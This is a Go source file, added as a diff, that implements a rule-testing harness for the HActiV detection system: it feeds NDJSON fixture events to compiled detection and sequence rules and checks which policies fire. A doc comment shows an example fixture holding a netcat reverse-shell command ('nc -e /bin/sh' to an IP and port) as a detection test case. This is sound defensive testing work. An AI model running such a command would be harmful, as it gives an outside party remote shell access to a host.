@@ -0,0 +1,230 @@
+// Copyright Authors of HActiV
+
+// configs package for Setting and detection rules
+package configs
+
+import (
+	"HActiV/pkg/utils"
+	"bufio"
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"time"
+)
+
+// 규칙 테스트 fixture 파일 이름은 규칙 파일 이름에서 .json을 .test.ndjson으로 바꾼 것이다.
+// (예: owasp/networkrule.json -> owasp/networkrule.test.ndjson)
+// JSON 규칙 파일이 없으면 같은 이름의 YAML 규칙 파일(owasp/networkrule.yaml)을 테스트한다.
+const fixtureSuffix = ".test.ndjson"
+
+// fixture 한 줄. expect는 이 이벤트로 액션이 실행되어야 하는 정책 이름 목록이며, 비어 있으면 아무 정책도 실행되지 않아야 한다.
+//
+//	{"name": "reverse shell", "event": {"ProcessName": "nc", "Args": "nc -e /bin/sh 10.0.0.5 4444"}, "expect": ["Reverse_shell"]}
+type fixtureCase struct {
+	Name   string      `json:"name"`
+	Event  utils.Event `json:"event"`
+	Expect []string    `json:"expect"`
+}
+
+type RuleTestCase struct {
+	Line     int
+	Name     string
+	Expected []string
+	Got      []string
+}
+
+func (c RuleTestCase) Passed() bool {
+	return strings.Join(c.Expected, "\n") == strings.Join(c.Got, "\n")
+}
+
+type RuleTestResult struct {
+	Fixture  string
+	RuleFile string
+	Cases    []RuleTestCase
+}
+
+func (r RuleTestResult) Failed() int {
+	failed := 0
+	for _, c := range r.Cases {
+		if !c.Passed() {
+			failed++
+		}
+	}
+	return failed
+}
+
+// 경로 목록에서 fixture 파일(*.test.ndjson)을 찾는다.
+func FindFixtureFiles(paths []string) ([]string, error) {
+	return findFiles(paths, func(name string) bool {
+		return strings.HasSuffix(name, fixtureSuffix)
+	})
+}
+
+func fixtureRuleFile(fixture string) string {
+	base := strings.TrimSuffix(fixture, fixtureSuffix)
+	if _, err := os.Stat(base + ".json"); os.IsNotExist(err) {
+		if _, err := os.Stat(base + ".yaml"); err == nil {
+			return base + ".yaml"
+		}
+	}
+	return base + ".json"
+}
+
+// fixture의 이벤트를 순서대로 대응하는 규칙 파일에 넣어 액션이 실행될 정책 이름을 기대값과 비교한다.
+// 규칙 팩은 꺼진 채로 배포되는 경우가 많으므로 rules lint와 같이 usage가 false인 규칙도 켠 것으로 보고 평가한다.
+// 같은 디렉터리에 allowlist.json이 있으면 함께 적용한다. 액션(print, alert)은 실행하지 않으며 dedup 억제는 적용하지 않는다.
+//
+// 집계 규칙과 순서 규칙의 시간 창은 이벤트의 Time(RFC3339)을 기준으로 한다.
+// Time이 없는 이벤트는 앞 이벤트보다 1ms 뒤에 일어난 것으로 본다.
+func RunRuleTest(fixture string) (RuleTestResult, error) {
+	result := RuleTestResult{Fixture: fixture, RuleFile: fixtureRuleFile(fixture)}
+
+	cases, err := readFixture(fixture)
+	if err != nil {
+		return result, err
+	}
+	evaluate, err := ruleTestEvaluator(result.RuleFile)
+	if err != nil {
+		return result, err
+	}
+	_, allowlist, err := readAllowlist(filepath.Join(filepath.Dir(result.RuleFile), allowlistFileName))
+	if err != nil {
+		return result, fmt.Errorf("%s: %v", allowlistFileName, err)
+	}
+
+	tool := sequenceTools[ruleFileTool(result.RuleFile)]
+	clock := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+	for _, c := range cases {
+		event := c.fixture.Event
+		if event.Tool == "" {
+			event.Tool = tool
+		}
+		if t, err := time.Parse(time.RFC3339, event.Time); err == nil {
+			clock = t
+		} else {
+			clock = clock.Add(time.Millisecond)
+		}
+
+		var got []string
+		if !allowlist.match(&event) {
+			got = evaluate(&event, clock)
+		}
+		result.Cases = append(result.Cases, RuleTestCase{
+			Line:     c.line,
+			Name:     c.fixture.Name,
+			Expected: uniqueSorted(c.fixture.Expect),
+			Got:      uniqueSorted(got),
+		})
+	}
+	return result, nil
+}
+
+type fixtureLine struct {
+	line    int
+	fixture fixtureCase
+}
+
+func readFixture(filename string) ([]fixtureLine, error) {
+	file, err := os.Open(filename)
+	if err != nil {
+		return nil, err
+	}
+	defer file.Close()
+
+	var cases []fixtureLine
+	scanner := bufio.NewScanner(file)
+	scanner.Buffer(make([]byte, 64*1024), 4*1024*1024)
+	for line := 1; scanner.Scan(); line++ {
+		text := bytes.TrimSpace(scanner.Bytes())
+		if len(text) == 0 {
+			continue
+		}
+		var c fixtureCase
+		if err := decodeStrict(text, &c); err != nil {
+			return nil, fmt.Errorf("%s:%d: %v", filename, line, err)
+		}
+		cases = append(cases, fixtureLine{line: line, fixture: c})
+	}
+	if err := scanner.Err(); err != nil {
+		return nil, err
+	}
+	return cases, nil
+}
+
+// 규칙 파일을 컴파일해 이벤트마다 액션이 실행될 정책 이름을 돌려주는 함수를 만든다.
+// 컴파일에 실패한 규칙이 있으면 테스트를 실행하지 않고 오류를 돌려준다.
+func ruleTestEvaluator(filename string) (func(event *utils.Event, now time.Time) []string, error) {
+	if IsSequenceRuleFile(filename) {
+		rules, err := readSequenceRuleFile(filename)
+		if err != nil {
+			return nil, err
+		}
+		for i := range rules {
+			rules[i].Usage = true
+		}
+		sequences, ruleErrs := compileSequences(rules)
+		if err := ruleErrorsToError(ruleErrs, func(i int) string { return rules[i].EventName }); err != nil {
+			return nil, err
+		}
+		c := &correlator{}
+		c.setSequences(sequences)
+		return func(event *utils.Event, now time.Time) []string {
+			var names []string
+			for _, done := range c.advance(event, now) {
+				names = append(names, done.policy.PolicyName)
+			}
+			return names
+		}, nil
+	}
+
+	rules, env, err := readRuleFile(filename)
+	if err != nil {
+		return nil, err
+	}
+	for i := range rules {
+		rules[i].Usage = true
+	}
+	policies, ruleErrs := compileRules(rules, env)
+	if err := ruleErrorsToError(ruleErrs, func(i int) string { return rules[i].EventName }); err != nil {
+		return nil, err
+	}
+	return func(event *utils.Event, now time.Time) []string {
+		var names []string
+		for _, t := range triggeredPolicies(policies, event, now) {
+			names = append(names, t.policy.PolicyName)
+		}
+		return names
+	}, nil
+}
+
+func ruleErrorsToError(ruleErrs map[int]string, name func(i int) string) error {
+	if len(ruleErrs) == 0 {
+		return nil
+	}
+	indexes := make([]int, 0, len(ruleErrs))
+	for i := range ruleErrs {
+		indexes = append(indexes, i)
+	}
+	sort.Ints(indexes)
+	msgs := make([]string, len(indexes))
+	for n, i := range indexes {
+		msgs[n] = fmt.Sprintf("정책 '%s': %s", name(i), ruleErrs[i])
+	}
+	return fmt.Errorf("유효하지 않은 규칙이 있습니다.\n%s", strings.Join(msgs, "\n"))
+}
+
+// 같은 이름의 정책이 여러 조건으로 나뉘어 있을 수 있으므로 이름 집합으로 비교한다.
+func uniqueSorted(names []string) []string {
+	sorted := append([]string{}, names...)
+	sort.Strings(sorted)
+	var unique []string
+	for i, name := range sorted {
+		if i == 0 || name != sorted[i-1] {
+			unique = append(unique, name)
+		}
+	}
+	return unique
+}